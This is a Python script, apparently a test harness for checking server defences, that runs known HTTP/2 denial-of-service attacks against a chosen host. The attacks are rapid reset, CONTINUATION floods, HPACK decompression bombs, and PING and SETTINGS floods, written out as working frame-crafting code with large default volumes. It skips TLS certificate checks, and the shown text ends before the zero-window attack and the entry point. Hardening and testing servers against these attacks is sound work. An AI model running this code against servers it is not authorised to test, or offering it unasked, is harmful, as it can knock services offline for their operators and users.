#!/usr/bin/env python3
"""Hostile HTTP/2 peers: run one known HTTP/2 attack against any server.

Connects with HTTP/2 prior knowledge (h2c), or with --tls over TLS with ALPN
"h2" and no certificate verification, performs one attack and reports what the
server did. Depends only on the standard library and python-hyper's h2,
hyperframe and hpack (python3.11, h2 4.x).

Well-formed traffic (the control request, the zero-window streams and the
probe on a fresh connection) goes through h2's connection state machine.
Attacks that need sequences h2 would refuse to produce are written as raw
frames with hyperframe and hpack, and the server's answers are parsed the
same way.

Exit status: 0 when the server defended itself as the attack's criteria below
say (for `control`: the request succeeded), 1 when it did not, 2 when the
attack could not be run (connection refused, no HTTP/2, bad arguments).
"""

from __future__ import annotations

import argparse
import collections
import json
import os
import select
import socket
import ssl
import sys
import time
from typing import Any, Callable, Optional

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MIB = 1024 * 1024

ATTACKS: dict[str, str] = {
    "rapid-reset": (
        "Open streams (HEADERS for a POST to --path, END_STREAM off) and reset each "
        "at once with RST_STREAM(CANCEL), in batches of --batch, up to --streams "
        "(default 20000). A PING follows each batch and at most 4 batches are in "
        "flight unacknowledged, so 'sent' means 'reached the server', not 'sits in "
        "a kernel buffer'. DEFENDED: a GOAWAY with ENHANCE_YOUR_CALM or "
        "PROTOCOL_ERROR (during the attack or the --grace period after it), or the "
        "connection closed before all streams were sent."
    ),
    "continuation-flood": (
        "Send one HEADERS without END_HEADERS, then CONTINUATION frames without "
        "END_HEADERS, each a full frame of valid literal header fields "
        "(x-flood: aaa...), up to --budget-mib MiB (default 64). DEFENDED: a "
        "GOAWAY with an error code, or the connection closed, before half the "
        "budget was sent. A server that stops reading but keeps the connection "
        "until --timeout is NOT defended (the offender keeps its connection)."
    ),
    "hpack-bomb": (
        "Put one large header (a value filling the server's dynamic table, 4 KiB "
        "by default) in the dynamic table with incremental indexing on a first, "
        "normal request, then send up to --bombs requests whose header block is "
        "one frame of references to that entry (about 16,000 references: 16 KiB "
        "on the wire, 64 MiB decoded). DEFENDED: no bomb request was answered with "
        "a status other than 431, and the server refused: a GOAWAY with "
        "ENHANCE_YOUR_CALM or COMPRESSION_ERROR, or the connection closed, or every "
        "bomb stream answered with 431 or RST_STREAM. A server whose header table "
        "size is 0 cannot be bombed and counts as defended."
    ),
    "ping-flood": (
        "Send PING frames as fast as possible, up to --count (default 1,000,000), "
        "never reading the socket (and with a small receive buffer), so the "
        "server's PING ACKs pile up. DEFENDED: a GOAWAY or the connection closed, "
        "or the server stopped reading: our send made no progress for --stall "
        "seconds (the server then holds bounded memory). NOT defended: all frames "
        "were taken in and the connection is still open."
    ),
    "settings-flood": (
        "The same as ping-flood with empty SETTINGS frames (each needs an ACK). "
        "Same criteria."
    ),
    "zero-window": (
        "Announce SETTINGS_INITIAL_WINDOW_SIZE=0, never send WINDOW_UPDATE, and "
        "open --streams (default 100, capped by the server's "
        "MAX_CONCURRENT_STREAMS) POST requests to --path, each with a "
        "--body-size body (default 1 MiB) the server would echo; then hold the "
        "connection --hold seconds (default 5). DEFENDED: while that connection "
        "is still held, a normal request on a second, fresh connection (POST with "
        "a 10-byte body) gets status 200 and the expected body (the echo, or the "
        "--expect-file content)."
    ),
    "control": (
        "A normal request: --method (default POST) to --path with a small body, "
        "expecting status 200 and the body echoed (or, with --expect-file, that "
        "file's content), so the harness is known to work against this server. "
        "PASSES (exit 0) when that is what came back."
    ),
}


class HarnessError(Exception):
    """The attack could not be run (no connection, no HTTP/2)."""


def error_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"UNKNOWN_0x{code:x}"


def count_frames(data: bytes, offset: int = 0) -> list[int]:
    """The end offsets (relative to `data`) of the whole frames in `data`."""
    ends = []
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        offset += 9 + length
        ends.append(offset)
    return ends


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """HPACK integer encoding (RFC 7541 5.1) with `first`'s high bits set."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name_index: int, value: bytes) -> bytes:
    """Literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value


def literal_new_name(name: bytes, value: bytes, incremental: bool) -> bytes:
    """Literal header field with a new name, with or without incremental indexing."""
    first = b"\x40" if incremental else b"\x00"
    return first + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(method: str, scheme: str, authority: str, path: str) -> bytes:
    """Pseudo-header fields encoded without touching the dynamic table."""
    static_methods = {"GET": b"\x82", "POST": b"\x83"}
    block = static_methods.get(method) or literal(2, method.encode())
    block += b"\x87" if scheme == "https" else b"\x86"
    block += literal(4, path.encode())
    block += literal(1, authority.encode())
    return block


class Wire:
    """A non-blocking socket with an outgoing queue, counting what was written.

    `on_data` receives every chunk read. Closure by the peer (EOF, reset, broken
    pipe, TLS close) sets `closed` and `close_reason`; it is an outcome, never an
    exception.
    """

    def __init__(self, args: argparse.Namespace, small_buffers: bool) -> None:
        self.args = args
        self.small_buffers = small_buffers
        self.sock: Any = None
        self.out = bytearray()
        self.frame_ends: collections.deque[int] = collections.deque()
        self.queued_total = 0
        self.bytes_sent = 0
        self.frames_sent = 0
        self.closed = False
        self.close_reason: Optional[str] = None
        self.last_progress = time.monotonic()
        self.on_data: Callable[[bytes], None] = lambda data: None

    def connect(self, deadline: float) -> None:
        args = self.args
        remaining = max(0.1, min(10.0, deadline - time.monotonic()))
        try:
            infos = socket.getaddrinfo(args.host, args.port, type=socket.SOCK_STREAM)
        except OSError as e:
            raise HarnessError(f"cannot resolve {args.host}: {e}") from e
        last: Optional[Exception] = None
        for family, kind, proto, _, address in infos:
            sock = socket.socket(family, kind, proto)
            if self.small_buffers:
                # Set before connect so the window scale matches: the server's
                # answers back up after a few KiB, and what we count as sent
                # is close to what the server has taken in.
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32 * 1024)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * 1024)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.settimeout(remaining)
            try:
                sock.connect(address)
            except OSError as e:
                sock.close()
                last = e
                continue
            self.sock = sock
            break
        if self.sock is None:
            raise HarnessError(f"cannot connect to {args.host}:{args.port}: {last}")
        if args.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            try:
                self.sock = context.wrap_socket(self.sock, server_hostname=args.host)
            except (OSError, ssl.SSLError) as e:
                raise HarnessError(f"TLS handshake failed: {e}") from e
            if self.sock.selected_alpn_protocol() != "h2":
                raise HarnessError(
                    f"server did not select ALPN h2 (got {self.sock.selected_alpn_protocol()!r})")
        self.sock.setblocking(False)
        self.last_progress = time.monotonic()

    def queue(self, data: bytes, frame_ends: Optional[list[int]] = None) -> None:
        """Queue bytes; `frame_ends` are the frame end offsets within `data`."""
        if self.closed or not data:
            return
        if not self.out:
            self.last_progress = time.monotonic()
        base = self.queued_total
        self.out += data
        self.queued_total += len(data)
        for end in (frame_ends if frame_ends is not None else count_frames(data)):
            self.frame_ends.append(base + end)

    def queue_frames(self, data: bytes) -> None:
        self.queue(data, count_frames(data))

    def stalled_for(self) -> float:
        return time.monotonic() - self.last_progress if self.out else 0.0

    def _mark_closed(self, reason: str) -> None:
        if not self.closed:
            self.closed = True
            self.close_reason = reason
            self.out.clear()

    def _write(self) -> None:
        try:
            n = self.sock.send(self.out[:256 * 1024])
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError, InterruptedError):
            return
        except (BrokenPipeError, ConnectionResetError, ssl.SSLEOFError, ssl.SSLZeroReturnError) as e:
            self._mark_closed(type(e).__name__)
            self._read_remains()
            return
        except (OSError, ssl.SSLError) as e:
            self._mark_closed(f"write: {e}")
            self._read_remains()
            return
        if n > 0:
            del self.out[:n]
            self.bytes_sent += n
            self.last_progress = time.monotonic()
            while self.frame_ends and self.frame_ends[0] <= self.bytes_sent:
                self.frame_ends.popleft()
                self.frames_sent += 1

    def _read(self) -> None:
        for _ in range(64):
            try:
                data = self.sock.recv(256 * 1024)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, InterruptedError):
                return
            except (ConnectionResetError, ssl.SSLEOFError, ssl.SSLZeroReturnError) as e:
                self._mark_closed(type(e).__name__)
                return
            except (OSError, ssl.SSLError) as e:
                self._mark_closed(f"read: {e}")
                return
            if not data:
                self._mark_closed("EOF")
                return
            self.on_data(data)
            pending = getattr(self.sock, "pending", None)
            if not (pending and pending()):
                return

    def _read_remains(self) -> None:
        """After a failed write, read what the server sent before closing (its GOAWAY)."""
        for _ in range(1024):
            try:
                data = self.sock.recv(256 * 1024)
            except (OSError, ssl.SSLError):
                return
            if not data:
                return
            self.on_data(data)

    def step(self, timeout: float, read: bool = True) -> None:
        """One round of waiting for the socket, writing and reading."""
        if self.closed:
            return
        if read and self.args.tls and self.sock.pending():
            self._read()
            if self.closed:
                return
        readers = [self.sock] if read else []
        writers = [self.sock] if self.out else []
        if not readers and not writers:
            time.sleep(max(0.0, timeout))
            return
        try:
            r, w, _ = select.select(readers, writers, [], max(0.0, timeout))
        except (OSError, ValueError) as e:
            self._mark_closed(f"select: {e}")
            return
        if w:
            self._write()
        if r and not self.closed:
            self._read()

    def flush(self, deadline: float, read: bool = True, stall: Optional[float] = None,
              stop: Callable[[], bool] = lambda: False) -> str:
        """Write the queue out. Returns "flushed", "closed", "stopped", "stalled"
        (no write progress for `stall` seconds) or "deadline"."""
        while True:
            if self.closed:
                return "closed"
            if stop():
                return "stopped"
            if not self.out:
                return "flushed"
            now = time.monotonic()
            if now >= deadline:
                return "deadline"
            if stall is not None and self.stalled_for() >= stall:
                return "stalled"
            self.step(min(0.05, deadline - now), read)

    def wait(self, until: Callable[[], bool], deadline: float) -> bool:
        """Read (and write what is queued) until `until()`, closure or deadline."""
        while not self.closed:
            if until():
                return True
            now = time.monotonic()
            if now >= deadline:
                return False
            self.step(min(0.05, deadline - now))
        return until()

    def close(self) -> None:
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


class RawPeer:
    """Raw HTTP/2 frames out, the server's frames parsed and recorded.

    Server SETTINGS and PINGs are acknowledged unless `hold_acks` is set (a
    header block in progress must not be interrupted by other frames).
    """

    def __init__(self, wire: Wire) -> None:
        self.wire = wire
        wire.on_data = self.feed
        self.buf = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 16 * MIB
        self.hold_acks = False
        self.held = bytearray()
        self.server_settings: dict[int, int] = {}
        self.got_settings = False
        self.ping_acks = 0
        self.settings_acks = 0
        self.goaways: list[dict[str, Any]] = []
        self.resets: dict[int, int] = {}
        self.statuses: dict[int, int] = {}
        self.block_stream = 0
        self.block = bytearray()
        self.protocol_errors: list[str] = []

    # Outgoing.
    def send(self, data: bytes) -> None:
        self.wire.queue_frames(data)

    def start(self, deadline: float) -> None:
        """Preface and empty SETTINGS; wait for the server's SETTINGS and ack them."""
        self.wire.queue(PREFACE, [])
        self.send(hf.SettingsFrame(0).serialize())
        self.wire.wait(lambda: self.got_settings, min(deadline, time.monotonic() + 10))
        if not self.got_settings and not self.wire.closed:
            raise HarnessError("the server sent no SETTINGS (is it HTTP/2 with prior knowledge?)")
        if self.wire.closed and not self.got_settings:
            raise HarnessError(f"the server closed the connection at once ({self.wire.close_reason})")
        self.wire.flush(deadline)

    def setting(self, code: SettingCodes, default: int) -> int:
        return self.server_settings.get(int(code), default)

    def _ack(self, data: bytes) -> None:
        if self.hold_acks:
            self.held += data
        else:
            self.send(data)

    # Incoming.
    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            header = memoryview(bytes(self.buf[:9]))
            body = memoryview(bytes(self.buf[9:9 + length]))
            del self.buf[:9 + length]
            try:
                frame, _ = hf.Frame.parse_frame_header(header)
                frame.parse_body(body)
            except Exception as e:  # hyperframe raises several kinds
                self.protocol_errors.append(f"unparsable frame from server: {e}")
                continue
            self.handle(frame)

    def handle(self, frame: hf.Frame) -> None:
        if isinstance(frame, hf.SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acks += 1
            else:
                self.server_settings.update(frame.settings)
                self.got_settings = True
                self._ack(hf.SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, hf.PingFrame):
            if "ACK" in frame.flags:
                self.ping_acks += 1
            else:
                self._ack(hf.PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, hf.GoAwayFrame):
            self.goaways.append({
                "code": frame.error_code,
                "name": error_name(frame.error_code),
                "last_stream_id": frame.last_stream_id,
                "debug": frame.additional_data.decode("utf-8", "replace"),
            })
        elif isinstance(frame, hf.RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, (hf.HeadersFrame, hf.ContinuationFrame)):
            if isinstance(frame, hf.HeadersFrame):
                self.block_stream = frame.stream_id
                self.block = bytearray()
            self.block += frame.data
            if "END_HEADERS" in frame.flags:
                try:
                    headers = self.decoder.decode(bytes(self.block), raw=True)
                except Exception as e:
                    self.protocol_errors.append(f"undecodable header block from server: {e}")
                    return
                for name, value in headers:
                    if name == b":status":
                        status = int(value)
                        if status >= 200:
                            self.statuses[self.block_stream] = status

    @property
    def goaway(self) -> Optional[dict[str, Any]]:
        """The GOAWAY to report: the last one with an error code, else the last."""
        with_error = [g for g in self.goaways if g["code"] != 0]
        if with_error:
            return with_error[-1]
        return self.goaways[-1] if self.goaways else None


class H2Peer:
    """A well-behaved client on h2's state machine, over a Wire."""

    def __init__(self, wire: Wire, initial_window: Optional[int] = None) -> None:
        self.wire = wire
        wire.on_data = self.feed
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        if initial_window is not None:
            self.conn.local_settings = h2.settings.Settings(
                client=True, initial_values={SettingCodes.INITIAL_WINDOW_SIZE: initial_window})
        self.acknowledge_data = initial_window is None
        self.statuses: dict[int, int] = {}
        self.bodies: dict[int, bytearray] = collections.defaultdict(bytearray)
        self.ended: set[int] = set()
        self.resets: dict[int, int] = {}
        self.goaway: Optional[dict[str, Any]] = None
        self.got_settings = False
        self.error: Optional[str] = None
        self.conn.initiate_connection()
        data = self.conn.data_to_send()
        wire.queue(data, count_frames(data, len(PREFACE)) if data.startswith(PREFACE) else None)

    def push(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.wire.queue(data)

    def feed(self, data: bytes) -> None:
        if self.error:
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            self.error = f"server broke the protocol: {type(e).__name__}: {e}"
            self.push()
            return
        for event in events:
            if isinstance(event, h2.events.RemoteSettingsChanged):
                self.got_settings = True
            elif isinstance(event, h2.events.ResponseReceived):
                for name, value in event.headers:
                    if name == ":status":
                        self.statuses[event.stream_id] = int(value)
            elif isinstance(event, h2.events.DataReceived):
                self.bodies[event.stream_id] += event.data
                if self.acknowledge_data:
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                self.resets[event.stream_id] = int(event.error_code)
            elif isinstance(event, h2.events.ConnectionTerminated):
                code = int(event.error_code) if event.error_code is not None else 0
                self.goaway = {
                    "code": code,
                    "name": error_name(code),
                    "last_stream_id": event.last_stream_id,
                    "debug": (event.additional_data or b"").decode("utf-8", "replace"),
                }
        self.push()

    def request_headers(self, method: str, path: str, length: Optional[int]) -> list[tuple[str, str]]:
        args = self.wire.args
        headers = [(":method", method), (":scheme", "https" if args.tls else "http"),
                   (":authority", args.authority), (":path", path)]
        if length is not None:
            headers.append(("content-length", str(length)))
        return headers

    def send_bodies(self, pending: dict[int, memoryview]) -> None:
        """Send as much of each pending body as flow control allows."""
        for stream_id in list(pending):
            rest = pending[stream_id]
            try:
                while rest:
                    size = min(self.conn.local_flow_control_window(stream_id),
                               self.conn.max_outbound_frame_size, len(rest))
                    if size <= 0:
                        break
                    self.conn.send_data(stream_id, rest[:size].tobytes())
                    rest = rest[size:]
                if not rest:
                    self.conn.end_stream(stream_id)
                    del pending[stream_id]
                else:
                    pending[stream_id] = rest
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                del pending[stream_id]
        self.push()


def single_request(args: argparse.Namespace, deadline: float,
                   body: bytes) -> tuple[dict[str, Any], Wire, Optional[H2Peer]]:
    """One normal request on a fresh connection; the control and the probe."""
    started = time.monotonic()
    result: dict[str, Any] = {"status": None, "body_ok": False, "ok": False, "seconds": 0.0,
                              "error": None, "goaway": None, "connection_closed": False}
    expected = body
    if args.expect_file:
        with open(args.expect_file, "rb") as f:
            expected = f.read()
    send_body = body if args.method not in ("GET", "HEAD") else b""
    wire = Wire(args, small_buffers=False)
    peer: Optional[H2Peer] = None
    try:
        wire.connect(deadline)
        peer = H2Peer(wire)
        stream_id = peer.conn.get_next_available_stream_id()
        peer.conn.send_headers(stream_id, peer.request_headers(
            args.method, args.path, len(send_body) if send_body else None), end_stream=not send_body)
        pending = {stream_id: memoryview(send_body)} if send_body else {}
        peer.push()
        while pending and not wire.closed and time.monotonic() < deadline and not peer.error:
            peer.send_bodies(pending)
            wire.step(0.05)
        wire.wait(lambda: stream_id in peer.ended or stream_id in peer.resets or bool(peer.error)
                  or peer.goaway is not None, deadline)
        result["status"] = peer.statuses.get(stream_id)
        got = bytes(peer.bodies.get(stream_id, b""))
        result["body_ok"] = got == expected
        result["body_bytes"] = len(got)
        result["ok"] = result["status"] == 200 and result["body_ok"] and stream_id in peer.ended
        if stream_id in peer.resets:
            result["error"] = f"stream reset by server: {error_name(peer.resets[stream_id])}"
        elif peer.error:
            result["error"] = peer.error
        elif not result["ok"] and stream_id not in peer.ended:
            result["error"] = "no complete response" + (" (connection closed)" if wire.closed else " before the deadline")
        elif not result["body_ok"]:
            result["error"] = f"unexpected body ({len(got)} bytes, expected {len(expected)})"
    except HarnessError as e:
        result["error"] = str(e)
    finally:
        if peer is not None:
            result["goaway"] = peer.goaway
        result["connection_closed"] = wire.closed
        result["frames_sent"] = wire.frames_sent
        result["bytes_sent"] = wire.bytes_sent
        result["seconds"] = round(time.monotonic() - started, 3)
        wire.close()
    return result, wire, peer


class Report:
    def __init__(self, attack: str) -> None:
        self.attack = attack
        self.started = time.monotonic()
        self.defended = False
        self.verdict = ""
        self.details: dict[str, Any] = {}
        self.error: Optional[str] = None
        self.wire: Optional[Wire] = None
        self.peer: Any = None

    def render(self, wire: Optional[Wire], peer: Any) -> dict[str, Any]:
        goaway = peer.goaway if peer is not None else None
        resets = len(peer.resets) if peer is not None else 0
        responses = len(peer.statuses) if peer is not None else 0
        return {
            "attack": self.attack,
            "defended": self.defended,
            "verdict": self.verdict,
            "goaway": goaway,
            "connection_closed": bool(wire and wire.closed),
            "close_reason": wire.close_reason if wire else None,
            "seconds": round(time.monotonic() - self.started, 3),
            "frames_sent": wire.frames_sent if wire else 0,
            "bytes_sent": wire.bytes_sent if wire else 0,
            "streams_reset_by_server": resets,
            "responses": responses,
            "details": self.details,
            "error": self.error,
        }


def open_raw(args: argparse.Namespace, deadline: float, report: "Report") -> tuple[Wire, RawPeer]:
    wire = Wire(args, small_buffers=True)
    report.wire = wire
    wire.connect(deadline)
    peer = RawPeer(wire)
    report.peer = peer
    peer.start(deadline)
    return wire, peer


def scheme(args: argparse.Namespace) -> str:
    return "https" if args.tls else "http"


def attack_rapid_reset(args, deadline, report) -> tuple[Wire, RawPeer]:
    wire, peer = open_raw(args, deadline, report)
    block = request_block("POST", scheme(args), args.authority, args.path)
    stream_id = 1
    opened = 0
    pings = 0
    outcome = "completed"
    stop = lambda: wire.closed or bool(peer.goaways)
    while opened < args.streams:
        if stop():
            outcome = "stopped by server"
            break
        if time.monotonic() >= deadline:
            outcome = "deadline"
            break
        # At most 4 batches in flight before the server has answered their PING.
        wire.wait(lambda: pings - peer.ping_acks < 4 or stop(), deadline)
        if stop() or time.monotonic() >= deadline:
            continue
        batch = bytearray()
        ends = []
        for _ in range(min(args.batch, args.streams - opened)):
            batch += hf.HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]).serialize()
            ends.append(len(batch))
            batch += hf.RstStreamFrame(stream_id, error_code=8).serialize()
            ends.append(len(batch))
            stream_id += 2
            opened += 1
        batch += hf.PingFrame(0, opaque_data=pings.to_bytes(8, "big")).serialize()
        ends.append(len(batch))
        pings += 1
        wire.queue(bytes(batch), ends)
        result = wire.flush(deadline, stall=args.stall, stop=stop)
        if result == "stalled":
            outcome = "server stopped reading"
            break
    all_sent = opened == args.streams and not wire.closed and wire.bytes_sent == wire.queued_total
    if outcome == "completed":
        # Grace: a defence may still arrive for what is in flight.
        wire.wait(lambda: wire.closed or any(g["code"] != 0 for g in peer.goaways),
                  min(deadline, time.monotonic() + args.grace))
    elif peer.goaways and not wire.closed:
        # A GOAWAY stopped us: see whether the server also closes the connection.
        wire.wait(lambda: wire.closed, min(deadline, time.monotonic() + args.grace))
    goaway = peer.goaway
    report.details.update({
        "streams_opened": opened, "streams_planned": args.streams,
        "highest_stream_id": stream_id - 2, "outcome": outcome,
        "server_acked_batches": peer.ping_acks, "all_sent_before_defence": all_sent,
        "response_statuses": summarize_statuses(peer.statuses),
    })
    if goaway and goaway["code"] in (ErrorCodes.ENHANCE_YOUR_CALM, ErrorCodes.PROTOCOL_ERROR):
        report.defended = True
        report.verdict = f"GOAWAY {goaway['name']} after {opened} streams"
    elif wire.closed and not all_sent:
        report.defended = True
        extra = f" (GOAWAY {goaway['name']})" if goaway else " (no GOAWAY)"
        report.verdict = f"connection closed after {opened} of {args.streams} streams{extra}"
    else:
        report.verdict = (f"not stopped: {opened} of {args.streams} streams opened and reset "
                          f"({outcome})" + (f", GOAWAY {goaway['name']}" if goaway else "")
                          + (", closed afterwards" if wire.closed else ""))
    return wire, peer


def attack_continuation_flood(args, deadline, report) -> tuple[Wire, RawPeer]:
    wire, peer = open_raw(args, deadline, report)
    frame_size = min(16384, peer.setting(SettingCodes.MAX_FRAME_SIZE, 16384))
    field = literal_new_name(b"x-flood", b"a" * 1012, incremental=False)  # 1024 bytes
    payload = (field * (frame_size // len(field) + 1))[:frame_size]
    continuation = hf.ContinuationFrame(1, data=payload).serialize()
    budget = args.budget_mib * MIB
    block = request_block("POST", scheme(args), args.authority, args.path)
    peer.hold_acks = True
    wire.queue_frames(hf.HeadersFrame(1, data=block, flags=[]).serialize())
    batch_count = 16
    batch = continuation * batch_count
    ends = [len(continuation) * (i + 1) for i in range(batch_count)]
    outcome = "completed"
    stopped_at = None
    while wire.queued_total < budget + len(PREFACE):
        result = wire.flush(deadline, stop=lambda: bool(peer.goaways))
        if result in ("closed", "stopped"):
            outcome = "stopped by server"
            break
        if result == "deadline":
            outcome = "deadline (server stopped reading but kept the connection)" \
                if wire.stalled_for() >= args.stall else "deadline"
            break
        wire.queue(batch, ends)
    if outcome == "completed":
        result = wire.flush(deadline, stop=lambda: bool(peer.goaways))
        if result in ("closed", "stopped"):
            outcome = "stopped by server"
        elif result == "deadline":
            outcome = "deadline"
    if outcome == "stopped by server":
        stopped_at = wire.bytes_sent
        if not wire.closed:
            # A GOAWAY stopped us: see whether the server also closes the connection.
            wire.out.clear()
            wire.wait(lambda: wire.closed, min(deadline, time.monotonic() + args.grace))
    else:
        wire.wait(lambda: wire.closed or bool(peer.goaways), min(deadline, time.monotonic() + args.grace))
    goaway = peer.goaway
    report.details.update({
        "budget_bytes": budget, "outcome": outcome,
        "bytes_sent_when_stopped": stopped_at,
        "continuation_frames_sent": max(0, wire.frames_sent - 3),
    })
    stopped = stopped_at is not None
    if stopped and stopped_at < budget // 2 and ((goaway and goaway["code"] != 0) or wire.closed):
        report.defended = True
        how = f"GOAWAY {goaway['name']}" if goaway else "connection closed"
        report.verdict = f"{how} after {stopped_at} bytes ({stopped_at / MIB:.2f} MiB) of the header block"
    elif stopped and stopped_at >= budget // 2:
        report.verdict = f"stopped only after {stopped_at / MIB:.2f} MiB (more than half the {args.budget_mib} MiB budget)"
    elif stopped:
        report.verdict = f"GOAWAY {goaway['name'] if goaway else '?'} without an error code, connection kept"
    else:
        report.verdict = f"not stopped: {wire.bytes_sent / MIB:.2f} MiB sent, {outcome}"
    return wire, peer


def attack_hpack_bomb(args, deadline, report) -> tuple[Wire, RawPeer]:
    wire, peer = open_raw(args, deadline, report)
    table = peer.setting(SettingCodes.HEADER_TABLE_SIZE, 4096)
    frame_size = min(16384, peer.setting(SettingCodes.MAX_FRAME_SIZE, 16384))
    name = b"x-bomb"
    value_size = table - 32 - len(name)
    report.details["server_header_table_size"] = table
    if value_size < 1:
        report.defended = True
        report.verdict = f"the server's header table size is {table}: no dynamic table to bomb"
        return wire, peer
    block = request_block("POST", scheme(args), args.authority, args.path)
    prime = block + literal_new_name(name, b"b" * value_size, incremental=True)
    wire.queue_frames(hf.HeadersFrame(1, data=prime, flags=["END_HEADERS", "END_STREAM"]).serialize())
    wire.flush(deadline)
    wire.wait(lambda: 1 in peer.statuses or 1 in peer.resets or bool(peer.goaways),
              min(deadline, time.monotonic() + 5))
    references = frame_size - len(block)
    bomb = block + b"\xbe" * references  # 0xbe: indexed field, index 62 (dynamic entry 1)
    decoded_each = references * (len(name) + value_size)
    stream_id = 3
    sent: list[int] = []
    outcome = "completed"
    for _ in range(args.bombs):
        if wire.closed or peer.goaways:
            outcome = "stopped by server"
            break
        if time.monotonic() >= deadline:
            outcome = "deadline"
            break
        wire.queue_frames(hf.HeadersFrame(stream_id, data=bomb, flags=["END_HEADERS", "END_STREAM"]).serialize())
        sent.append(stream_id)
        sid = stream_id
        wire.flush(deadline, stall=args.stall)
        wire.wait(lambda: sid in peer.statuses or sid in peer.resets or bool(peer.goaways),
                  min(deadline, time.monotonic() + args.grace))
        stream_id += 2
    wire.wait(lambda: wire.closed or bool(peer.goaways) or all(
        s in peer.statuses or s in peer.resets for s in sent), min(deadline, time.monotonic() + args.grace))
    goaway = peer.goaway
    accepted = {s: peer.statuses[s] for s in sent if s in peer.statuses and peer.statuses[s] != 431}
    refused = [s for s in sent if peer.statuses.get(s) == 431 or s in peer.resets]
    report.details.update({
        "bombs_sent": len(sent), "bytes_per_bomb": len(bomb) + 9,
        "decoded_bytes_per_bomb": decoded_each, "outcome": outcome,
        "bombs_refused": len(refused), "bombs_answered": len(accepted),
        "priming_status": peer.statuses.get(1),
        "response_statuses": summarize_statuses({s: peer.statuses[s] for s in sent if s in peer.statuses}),
    })
    if accepted:
        report.verdict = (f"{len(accepted)} bomb request(s) answered with status "
                          f"{sorted(set(accepted.values()))}: headers of {decoded_each / MIB:.0f} MiB accepted")
    elif goaway and goaway["code"] in (ErrorCodes.ENHANCE_YOUR_CALM, ErrorCodes.COMPRESSION_ERROR):
        report.defended = True
        report.verdict = f"GOAWAY {goaway['name']} after {len(sent)} bomb(s)"
    elif wire.closed:
        report.defended = True
        report.verdict = f"connection closed after {len(sent)} bomb(s)" + (
            f" (GOAWAY {goaway['name']})" if goaway else "")
    elif sent and len(refused) == len(sent):
        report.defended = True
        report.verdict = f"all {len(sent)} bomb streams refused (431 or RST_STREAM)"
    else:
        report.verdict = (f"not refused: {len(sent)} bomb(s) sent, {len(refused)} refused, "
                          f"others unanswered" + (f", GOAWAY {goaway['name']}" if goaway else ""))
    return wire, peer


def attack_flood(args, deadline, report, frame: bytes) -> tuple[Wire, RawPeer]:
    wire, peer = open_raw(args, deadline, report)
    per_batch = 1024
    batch = frame * per_batch
    ends = [len(frame) * (i + 1) for i in range(per_batch)]
    queued = 0
    outcome = "completed"
    handshake_frames = wire.frames_sent
    while queued < args.count:
        n = min(per_batch, args.count - queued)
        if n == per_batch:
            wire.queue(batch, ends)
        else:
            wire.queue(frame * n, ends[:n])
        queued += n
        # Never read: the server's ACKs must pile up on its side.
        result = wire.flush(deadline, read=False, stall=args.stall)
        if result == "closed":
            outcome = "closed by server"
            break
        if result == "stalled":
            outcome = "server stopped reading"
            break
        if result == "deadline":
            outcome = "deadline"
            break
    flooded = wire.frames_sent - handshake_frames
    # Now read what came back (ACKs, a GOAWAY, the close), without sending more.
    stopped_writing_at = wire.bytes_sent
    wire.out.clear()
    wire.wait(lambda: bool(peer.goaways), min(deadline, time.monotonic() + args.grace))
    goaway = peer.goaway
    report.details.update({
        "outcome": outcome, "frames_planned": args.count, "flood_frames_sent": flooded,
        "flood_bytes_sent": stopped_writing_at,
        "acks_received": peer.ping_acks if frame[3] == 0x6 else max(0, peer.settings_acks - 1),
        "stall_seconds": args.stall,
    })
    if goaway or outcome == "closed by server" or (wire.closed and outcome != "completed"):
        report.defended = True
        report.verdict = (f"GOAWAY {goaway['name']}" if goaway else "connection closed") + \
            f" after {flooded} frames"
    elif outcome == "server stopped reading":
        report.defended = True
        report.verdict = f"server stopped reading after {flooded} frames (send blocked {args.stall} s)"
    else:
        report.verdict = f"not stopped: {flooded} frames taken in ({outcome})" + (
            ", closed afterwards" if wire.closed else "")
    return wire, peer


